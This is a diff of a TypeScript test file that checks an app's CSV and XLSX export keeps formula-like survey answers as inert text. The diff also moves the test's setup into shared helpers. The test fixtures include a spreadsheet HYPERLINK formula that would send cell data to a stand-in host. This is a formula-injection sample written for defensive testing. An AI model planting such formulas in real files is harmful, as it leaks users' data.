@@ -5,22 +5,19 @@
  * formulas, holding exactly the stored text (no `'`, which Excel would
  * show); and the stored text stays exactly as written.
  */
-import { readFileSync } from 'node:fs';
-import { join } from 'node:path';
+
 import { inflateRawSync } from 'node:zlib';
 import ExcelJS from 'exceljs';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import type { ReportCommentsReply } from '../../shared/api/report';
-import { buildTestApp, sharedDir, type TestApp } from '../helpers/app';
-import {
-  seedCoder,
-  seedCoding,
-  seedProject,
-  seedTheme,
-} from './report-factories';
+import { useTestApp } from '../helpers/app';
+import * as seed from '../helpers/factories';
+import { importRoutes } from '../helpers/imports';
+import { sharedFile } from '../helpers/multipart';
+import { commentIdsOf } from '../helpers/queries';
 
-const caseFile = join(sharedDir, 'cases/C12/formula_comments.csv');
+const caseFile = sharedFile('cases/C12/formula_comments.csv');
 
 const STORED: Record<string, string> = {
   P701: '=HYPERLINK("http://example.invalid/?q="&A1,"More info")',
@@ -31,25 +28,6 @@ const STORED: Record<string, string> = {
   P706: '=1+1',
   P707: 'Cost=time was never explained',
 };
-
-/** A multipart body with the file and the mapping as a JSON field. */
-function importBody(fileName: string, bytes: Buffer, mapping: object) {
-  const boundary = '----verbatim-test-boundary';
-  const body = Buffer.concat([
-    Buffer.from(
-      `--${boundary}\r\nContent-Disposition: form-data; name="mapping"\r\n\r\n` +
-        `${JSON.stringify(mapping)}\r\n` +
-        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\n` +
-        'Content-Type: text/csv\r\n\r\n',
-    ),
-    bytes,
-    Buffer.from(`\r\n--${boundary}--\r\n`),
-  ]);
-  return {
-    payload: body,
-    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
-  };
-}
 
 /** The named entry of a zip file (an XLSX workbook), inflated. */
 function zipEntry(zip: Buffer, name: string): string {
@@ -106,13 +84,12 @@ function descriptorLength(zip: Buffer, at: number): number {
 }
 
 describe('case C12: formula-like answers on export', () => {
-  let t: TestApp;
+  const t = useTestApp();
   let projectId = 0;
   let coder = 0;
 
   beforeAll(async () => {
-    t = await buildTestApp();
-    projectId = seedProject(t.db, 'C12');
+    projectId = seed.project(t.db, { name: 'C12' });
     const mapping = {
       layout: 'wide',
       headerRows: 1,
@@ -120,22 +97,14 @@ describe('case C12: formula-like answers on export', () => {
       group: { column: 'Group' },
       questions: [{ column: 'change', key: 'change', label: '=Change?' }],
     };
-    const res = await t.app.inject({
-      method: 'POST',
-      url: `/api/projects/${projectId}/imports`,
-      ...importBody('formula_comments.csv', readFileSync(caseFile), mapping),
-    });
-    expect(res.statusCode, res.body).toBe(201);
+    await importRoutes(t).importFile(projectId, caseFile, mapping);
 
     // Theme and coder names that start like formulas, coding every comment.
-    const theme = seedTheme(t.db, projectId, '=SUM(A1:A9)');
-    coder = seedCoder(t.db, '@coder');
-    const ids = t.db.$client
-      .prepare('SELECT id FROM comments WHERE project_id = ?')
-      .all(projectId) as Array<{ id: number }>;
-    for (const { id } of ids) seedCoding(t.db, id, coder, [theme]);
+    const theme = seed.theme(t.db, projectId, { name: '=SUM(A1:A9)' });
+    coder = seed.coder(t.db, { name: '@coder' });
+    for (const id of commentIdsOf(t.db, projectId))
+      seed.coding(t.db, id, { coderId: coder, themeIds: [theme] });
   });
-  afterAll(async () => t.close());
 
   const get = (path: string) =>
     t.app.inject({ method: 'GET', url: `/api/projects/${projectId}/${path}` });
